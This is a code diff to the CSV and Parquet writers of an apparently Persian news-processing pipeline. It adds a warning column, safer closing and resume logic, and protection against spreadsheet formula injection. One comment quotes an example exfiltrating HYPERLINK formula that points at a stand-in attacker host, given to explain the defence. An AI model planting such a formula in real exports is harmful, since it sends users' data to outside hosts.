@@ -36,7 +36,7 @@ DOCUMENT_COLUMNS: list[tuple[str, str]] = [
     ("published_source", "str"), ("url", "str"), ("chars", "int"), ("sentences", "int"),
     ("n_entities", "int"), ("n_numbers", "int"), ("n_places", "int"), ("n_lists", "int"),
     ("n_quotes", "int"), ("n_facts", "int"),
-    ("status", "str"), ("error", "str"),
+    ("status", "str"), ("error", "str"), ("warning", "str"),
 ]
 
 _SPAN = ("start", "end", "text")
@@ -116,6 +116,7 @@ def document_rows(doc: Document) -> TableRows:
         str(meta.get("published") or ""), *(_published_cells(pub)), str(meta.get("url") or ""), len(doc.original), len(doc.sentences),
         len(doc.entities), len(doc.numbers), len(doc.places), len(doc.lists), len(doc.quotes), len(doc.facts),
         "ok", "",
+        str(meta.get("warning") or ""),
     ))
     for table, records, fields in (("entities", doc.entities, _ENTITY_FIELDS),
                                    ("numbers", doc.numbers, _NUMBER_FIELDS),
@@ -143,11 +144,12 @@ def _published_cells(pub) -> tuple:
     return (pub.date, pub.jalali, pub.time, pub.source)
 
 
-def error_rows(doc_id: str, source: str, error: str, *, title: str = "", published: str = "", url: str = "", chars: int | None = None) -> TableRows:
+def error_rows(doc_id: str, source: str, error: str, *, title: str = "", published: str = "", url: str = "",
+               chars: int | None = None, warning: str = "") -> TableRows:
     """The single documents row of a record that failed, with its message."""
     out: TableRows = {name: [] for name in TABLE_NAMES}
     out["documents"].append((doc_id, source, title, "", "", published, None, None, None, None, url, chars, None,
-                             None, None, None, None, None, None, "error", error))
+                             None, None, None, None, None, None, "error", error, warning))
     return out
 
 
@@ -193,9 +195,37 @@ def format_cell(value: Any) -> str:
     return str(value)
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, "CSV
+# injection"): a title «=HYPERLINK("http://evil.example/?"&A1,"x")» would become a live link
+# that sends the neighbouring cells away. "-" starts a formula too («--05-21» evaluates to -16),
+# except in a plain negative number.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = regex.compile(r"-[0-9]+(?:\.[0-9]+)?")
+
+
+def neutralize(cell: str) -> str:
+    """A text cell a spreadsheet will show as text: a leading ``'`` before ``= + - @``, tab or
+    CR (as OWASP recommends); plain negative numbers are left alone. CSV only: Parquet keeps
+    the raw text."""
+    if cell.startswith(_FORMULA_START) and not (cell[0] == "-" and _PLAIN_NUMBER.fullmatch(cell)) \
+            or cell.startswith("'"):  # a text's own leading quote is doubled, so reading back is exact
+        return "'" + cell
+    return cell
+
+
+def unneutralize(cell: str) -> str:
+    """The text ``neutralize`` was given: one leading ``'`` dropped."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def _csv_cell(value: Any) -> str:
+    return neutralize(value) if isinstance(value, str) else format_cell(value)
+
+
 class CsvTable:
     """One CSV table written in whole rows: every ``write`` ends with a flush, so a run that is
-    killed leaves a file of complete rows (at worst, a last partial line that ``--resume`` drops)."""
+    killed leaves a file of complete rows (at worst, a last partial line that ``--resume`` drops).
+    Text cells are neutralized against formula injection (``neutralize``)."""
 
     def __init__(self, path: Path, table: str, encoding: str = "utf-8-sig", append: bool = False):
         self.path = path
@@ -212,11 +242,15 @@ class CsvTable:
         buf = io.StringIO()
         writer = csv.writer(buf, lineterminator="\n")
         for row in rows:
-            writer.writerow([format_cell(v) for v in row])
+            writer.writerow([_csv_cell(v) for v in row])
         data = buf.getvalue()
         if self.encoding == "utf-8-sig":
-            return ("\ufeff" + data if first else data).encode("utf-8")
-        return data.encode(self.encoding)
+            data = "\ufeff" + data if first else data
+        codec = "utf-8" if self.encoding == "utf-8-sig" else self.encoding
+        try:
+            return data.encode(codec)
+        except UnicodeEncodeError:  # a lone surrogate that got past the readers: never a crash
+            return data.encode(codec, "replace")
 
     def write(self, rows: Sequence[Row]) -> None:
         if rows:
@@ -225,14 +259,28 @@ class CsvTable:
             self.rows_written += len(rows)
 
     def close(self) -> None:
-        self.fh.close()
+        """Flush to disk and close; raises OSError (a full disk...) rather than hiding it."""
+        try:
+            self.fh.flush()
+            os.fsync(self.fh.fileno())
+        finally:
+            self.fh.close()
+
+    def abort(self) -> None:
+        try:
+            self.fh.close()
+        except OSError:
+            pass
 
 
 class ParquetTable:
-    """One Parquet table, streamed as row groups into ``NAME.parquet.part`` and renamed into
-    place by ``close``: an interrupted run leaves the previous complete file untouched."""
+    """One Parquet table, streamed as row groups (one per ``write``, i.e. per finished chunk of
+    documents) into ``NAME.parquet.part``. ``finish`` closes it (raising if the footer cannot be
+    written, e.g. on a full disk) and ``commit`` renames it into place: a table is never in
+    place unless it was closed without error. The batch runner finishes every table before it
+    commits any, so the five tables in a folder always come from the same run."""
 
-    def __init__(self, path: Path, table: str, existing: Path | None = None):
+    def __init__(self, path: Path, table: str, existing: Path | None = None, keep: set[str] | None = None):
         try:
             import pyarrow as pa
             import pyarrow.parquet as pq
@@ -240,17 +288,31 @@ class ParquetTable:
             raise RuntimeError("--format parquet needs pyarrow: pip install 'persian-news-pipeline[parquet]'") from None
         self.pa, self.pq = pa, pq
         self.path = path
+        self.table = table
         self.cols = COLUMNS[table]
         types = {"str": pa.string(), "int": pa.int64(), "float": pa.float64(), "bool": pa.bool_()}
         self.schema = pa.schema([(c, types[k]) for c, k in self.cols])
         self.part = path.with_name(path.name + ".part")
-        self.writer = pq.ParquetWriter(self.part, self.schema)
         self.rows_written = 0
+        self.writer = pq.ParquetWriter(self.part, self.schema)
         if existing is not None and existing.exists():
-            old = pq.ParquetFile(existing)
-            for i in range(old.num_row_groups):
-                group = old.read_row_group(i)
-                self.writer.write_table(group.cast(self.schema))
+            self._copy(existing, keep)
+
+    def _copy(self, existing: Path, keep: set[str] | None) -> None:
+        """The rows of a previous run's table (``--resume``), without the records of documents
+        whose documents row never made it (a run stopped between the two writes)."""
+        import pyarrow.compute as pc
+
+        old = self.pq.ParquetFile(existing)
+        if old.schema_arrow.names != self.schema.names:
+            raise ValueError(f"{existing} was written with other columns")
+        wanted = self.pa.array(sorted(keep), type=self.pa.string()) if keep is not None else None
+        for i in range(old.num_row_groups):
+            group = old.read_row_group(i).cast(self.schema)
+            if wanted is not None:
+                group = group.filter(pc.is_in(group.column("doc_id"), value_set=wanted))
+            if group.num_rows:
+                self.writer.write_table(group)
                 self.rows_written += group.num_rows
 
     def write(self, rows: Sequence[Row]) -> None:
@@ -263,11 +325,35 @@ class ParquetTable:
     def _clean(value: Any, kind: str) -> Any:
         if value is None or (isinstance(value, float) and math.isnan(value)):
             return None
+        if isinstance(value, str):  # pyarrow refuses lone surrogates
+            try:
+                value.encode("utf-8")
+            except UnicodeEncodeError:
+                return value.encode("utf-8", "replace").decode("utf-8")
         return value
 
-    def close(self) -> None:
+    def finish(self) -> None:
+        """Write the footer; raises OSError when it cannot (the table is then not committed)."""
         self.writer.close()
+        with open(self.part, "rb") as fh:
+            os.fsync(fh.fileno())
+
+    def commit(self) -> None:
         os.replace(self.part, self.path)
+
+    def abort(self) -> None:
+        try:
+            self.writer.close()
+        except Exception:
+            pass
+        try:
+            self.part.unlink()
+        except OSError:
+            pass
+
+    def close(self) -> None:
+        self.finish()
+        self.commit()
 
 
 if typing.TYPE_CHECKING:  # pragma: no cover
